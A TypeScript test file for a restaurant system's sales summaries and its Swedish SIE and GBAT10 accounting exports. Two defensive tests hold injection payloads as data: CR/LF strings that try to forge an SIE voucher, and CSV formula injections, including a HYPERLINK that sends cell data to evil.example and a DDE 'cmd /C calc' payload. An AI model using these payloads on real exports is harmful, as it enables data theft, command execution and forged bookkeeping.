/**
 * The reporting rules without a database (docs/reporting.md): the day totals a purchase adds, the
 * summary's rows from them in both modes (against sums made by hand), one voucher per day that
 * balances, the SIE file read back by the tests' reader, GBAT10's columns, the code page.
 */
import { describe, expect, it } from 'vitest';
import { dayTotals, type Purchase } from '../../shared/data/purchases';
import { distinctEmails } from '../../shared/domain/reporting/operations';
import {
  decodeCp437,
  encodeCp437,
  gbat10File,
  missingAccounts,
  sieFile,
  voucherOf,
} from '../../shared/domain/reporting/ledger';
import { sumCounters, summarize } from '../../shared/domain/reporting/summary';
import { monthAccounts, monthLegacy, monthSplit, testMonth } from '../support/reporting-month';
import { accountTotals, readSie } from '../support/sie';

const month = testMonth(101);
const days = (purchases: Purchase[]) => purchases.map((p) => ({ localDate: p.localDate, counters: dayTotals(p) }));
const header = {
  companyName: 'Smörgås & Co',
  locationName: 'Bistro Åre',
  generated: '2026-01-31',
  programVersion: '20260101-0000-1',
};
const settings = { accounts: monthAccounts, includeServiceFees: true, splitByCostCenter: false };

describe('the purchase summary', () => {
  it('puts each purchase on its local date: just after midnight on the spring-forward day is that day, one minute before is the day before', () => {
    const [p1, p2, p3, p4, p5] = month.purchases;
    expect([p1!.localDate, p2!.localDate, p3!.localDate, p4!.localDate, p5!.localDate]).toEqual([
      month.dst,
      month.before,
      month.dst,
      month.after,
      month.dst,
    ]);
    expect(p1!.createdAt.slice(0, 10)).toBe(month.before); // 00:30 local is 23:30 UTC the day before
  });

  it('sums the month as computed by hand, in the legacy format and split by cost center', () => {
    const counters = sumCounters(days(month.purchases));
    expect(summarize(counters, false)).toEqual(monthLegacy);
    expect(summarize(counters, true)).toEqual(monthSplit);
    expect(Object.keys(summarize(counters, false))).toEqual(['totals', 'items', 'vats', 'psp']);
  });

  it('sums one day alone: the spring-forward day holds P1, P3 and P5', () => {
    const dst = summarize(sumCounters(days(month.purchases.filter((p) => p.localDate === month.dst))), false);
    expect(dst.totals).toEqual({
      count: 3,
      amount: 52500,
      vat: 3107 + 2400 + 1600 + 214,
      net: 52500 - 7321,
      tip: 2000,
      serviceFee: 500,
      total: 55000,
    });
  });

  it('keeps names and codes with any character apart (they are encoded in the counter names)', () => {
    const p: Purchase = {
      ...month.purchases[0]!,
      items: [
        {
          itemId: null,
          name: 'Fish | chips 100%',
          quantity: 1,
          unitPrice: 100,
          amount: 100,
          vatRate: 12,
          costCenter: { code: 'A|B', name: 'Kök | bar' },
        },
      ],
      amount: 100,
      vatRows: [{ vatRate: 12, amount: 100, vat: 11 }],
      tip: 0,
    };
    const s = summarize(dayTotals(p), true);
    expect(s.items).toEqual([
      {
        itemId: null,
        name: 'Fish | chips 100%',
        unitPrice: 100,
        vatRate: 12,
        quantity: 1,
        amount: 100,
        costCenterCode: 'A|B',
        costCenterName: 'Kök | bar',
      },
    ]);
  });
});

describe('the export', () => {
  const byDay = [month.before, month.dst, month.after].map((date) =>
    voucherOf(date, summarize(sumCounters(days(month.purchases.filter((p) => p.localDate === date))), false), settings),
  );

  it("writes one voucher per day that balances, and reads back to the summary's totals", () => {
    const file = readSie(encodeCp437(sieFile(header, byDay, settings)));
    expect(file.records.get('#FORMAT')).toEqual([['PC8']]);
    expect(file.records.get('#SIETYP')).toEqual([['4']]);
    expect(file.records.get('#FNAMN')).toEqual([['Smörgås & Co']]);
    expect(file.vouchers.map((v) => v.date)).toEqual(
      [month.before, month.dst, month.after].map((d) => d.replaceAll('-', '')),
    );
    for (const v of file.vouchers)
      expect(
        v.trans.reduce((sum, t) => sum + t.amount, 0),
        v.date,
      ).toBe(0);
    const totals = accountTotals(file);
    const { totals: t, vats, psp } = monthLegacy;
    expect(-(totals.get('3001')! + totals.get('3002')! + totals.get('3000')!)).toBe(t.net);
    expect(-(totals.get('2611')! + totals.get('2621')!)).toBe(t.vat);
    expect(-totals.get('2611')!).toBe(vats[1]!.vat);
    expect(totals.get('1580')).toBe(psp[2]!.total);
    expect(totals.get('1582')).toBe(psp[0]!.total);
    expect(-totals.get('2890')!).toBe(t.tip);
    expect(-totals.get('3590')!).toBe(t.serviceFee);
    expect(file.accounts.get('3001')).toBe('Försäljning 25 % moms');
  });

  it('leaves service fees out when the settings do (the providers are debited without them)', () => {
    const without = { ...settings, includeServiceFees: false };
    const v = voucherOf(
      month.after,
      summarize(sumCounters(days(month.purchases.filter((p) => p.localDate === month.after))), false),
      without,
    );
    expect(v.postings.find((p) => p.account === '3590')).toBeUndefined();
    expect(v.postings.find((p) => p.account === '1582')!.amount).toBe(41000 + 1000);
  });

  it('puts sales on their cost center when split (SIE objects of dimension 1)', () => {
    const split = { ...settings, splitByCostCenter: true };
    const vouchers = [
      voucherOf(
        month.after,
        summarize(sumCounters(days(month.purchases.filter((p) => p.localDate === month.after))), true),
        split,
      ),
    ];
    const file = readSie(encodeCp437(sieFile(header, vouchers, split)));
    expect(file.records.get('#OBJEKT')).toEqual([['1', 'BAR', 'Bar']]);
    expect(file.vouchers[0]!.trans.find((t) => t.account === '3001' && t.objects.length)).toEqual({
      account: '3001',
      objects: [['1', 'BAR']],
      amount: -28800,
    });
  });

  it('names every account the range needs and the settings lack', () => {
    const summary = summarize(sumCounters(days(month.purchases)), false);
    const partial = { ...monthAccounts, sales: { '25': '3001' }, paymentProviders: { stripe: '1580' } };
    expect(
      missingAccounts(summary, { accounts: partial, includeServiceFees: true })
        .map((p) => p.path)
        .sort(),
    ).toEqual([
      '/accounts/paymentProviders/adyen',
      '/accounts/paymentProviders/cash',
      '/accounts/paymentProviders/swish',
      '/accounts/sales/12',
      '/accounts/sales/none',
    ]);
  });

  it('writes GBAT10 as 29 semicolon-separated columns, one line per posting', () => {
    const lines = gbat10File(header, byDay).trimEnd().split('\r\n');
    expect(lines.length).toBe(byDay.reduce((n, v) => n + v.postings.length, 0));
    const first = lines[0]!.split(';');
    expect(first.length).toBe(29);
    expect(first.slice(0, 8)).toEqual([
      'GBAT10',
      '1',
      month.before.replaceAll('-', ''),
      '1',
      month.before.slice(5, 7),
      month.before.slice(0, 4),
      first[6],
      '0',
    ]);
    expect(lines.map((l) => Math.round(Number(l.split(';')[8]) * 100)).reduce((a, b) => a + b, 0)).toBe(0);
  });

  it('keeps a name with CR/LF, quotes and backslashes inside its SIE field: read back, exactly the vouchers written', () => {
    const forged =
      '\r\n}\r\n#VER "A" 99 20260101 "forged"\r\n{\r\n   #TRANS 1930 {} 100000.00\r\n   #TRANS 3001 {} -100000.00\r\n}';
    const attack = {
      ...header,
      companyName: 'Evil "AB"\n#FNAMN "Other" \\',
      locationName: `Bistro "Åre"\\${forged}\u001b\u0085 end`,
    };
    const text = sieFile(attack, byDay, settings);
    const lines = text.split('\r\n');
    expect(lines.filter((l) => l.startsWith('#VER'))).toHaveLength(byDay.length);
    expect(text).not.toMatch(/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f]|\r(?!\n)|(?<!\r)\n/);
    const file = readSie(encodeCp437(text));
    expect(file.records.get('#FNAMN')).toEqual([['Evil "AB" #FNAMN "Other" \\']]);
    const name = attack.locationName.replaceAll(/[\u0000-\u001f\u007f-\u009f]/g, ' ');
    expect(file.vouchers.map((v) => [v.series, v.number, v.text])).toEqual(
      byDay.map((v, i) => ['A', String(i + 1), `${name} ${v.date}`]),
    );
    expect(file.vouchers.map((v) => v.trans.length)).toEqual(byDay.map((v) => v.postings.length));
    expect(file.vouchers.map((v) => v.trans.reduce((sum, t) => sum + t.amount, 0))).toEqual(byDay.map(() => 0));
    expect([...file.records.keys()].sort()).toEqual(
      ['#FLAGGA', '#FNAMN', '#FORMAT', '#GEN', '#KONTO', '#PROGRAM', '#SIETYP'].sort(),
    );
  });

  it.each(['=', '+', '-', '@', '\t', '\r'])(
    'writes a GBAT10 text cell starting with %j as quoted text with a leading quote, the amounts as numbers',
    (trigger) => {
      const locationName = `${trigger}HYPERLINK("https://evil.example/?d="&A1;"Open")`;
      const split = { ...settings, splitByCostCenter: true };
      const vouchers = [
        voucherOf(
          month.after,
          summarize(sumCounters(days(month.purchases.filter((p) => p.localDate === month.after))), true),
          split,
        ),
      ];
      vouchers[0]!.postings[0]!.costCenter = { code: `${trigger}cmd|' /C calc'!A0`, name: 'x' };
      const lines = gbat10File({ ...header, locationName }, vouchers).split('\r\n');
      expect(lines.pop()).toBe('');
      expect(lines).toHaveLength(vouchers[0]!.postings.length);
      const unquoted = (cell: string) => {
        expect(cell).toMatch(/^"'.*"$/);
        return cell.slice(2, -1).replaceAll('""', '"');
      };
      const text = (s: string) => s.replaceAll(';', ',').replaceAll(/[\t\r]/g, ' ');
      for (const line of lines) {
        const cols = line.split(';');
        expect(cols).toHaveLength(29);
        expect(unquoted(cols[20]!)).toBe(text(`${locationName} ${month.after}`));
        expect(cols[8]).toMatch(/^-?\d+\.\d{2}$/);
      }
      expect(unquoted(lines[0]!.split(';')[23]!)).toBe(text(`${trigger}cmd|' /C calc'!A0`));
      expect(lines.some((l) => l.split(';')[8]!.startsWith('-'))).toBe(true);
    },
  );

  it('leaves a GBAT10 text cell that starts with none of them as it is', () => {
    const [line] = gbat10File({ ...header, locationName: 'Bistro 1-2' }, byDay).split('\r\n');
    expect(line!.split(';')[20]).toBe(`Bistro 1-2 ${byDay[0]!.date}`);
  });

  it('encodes code page 437 both ways (å ä ö Å Ä Ö é), a character it lacks as ?', () => {
    expect([...encodeCp437('åäöÅÄÖé€')]).toEqual([0x86, 0x84, 0x94, 0x8f, 0x8e, 0x99, 0x82, 0x3f]);
    const all = Buffer.from(Array.from({ length: 256 }, (_, i) => i));
    expect(encodeCp437(decodeCp437(all))).toEqual(all);
  });
});

describe('report emails', () => {
  it('keeps each address once, compared without case, first spelling first', () => {
    expect(
      distinctEmails(['Ann@Example.com', 'bo@example.com', 'ann@example.COM', 'BO@example.com', 'cy@example.com']),
    ).toEqual(['Ann@Example.com', 'bo@example.com', 'cy@example.com']);
  });
});
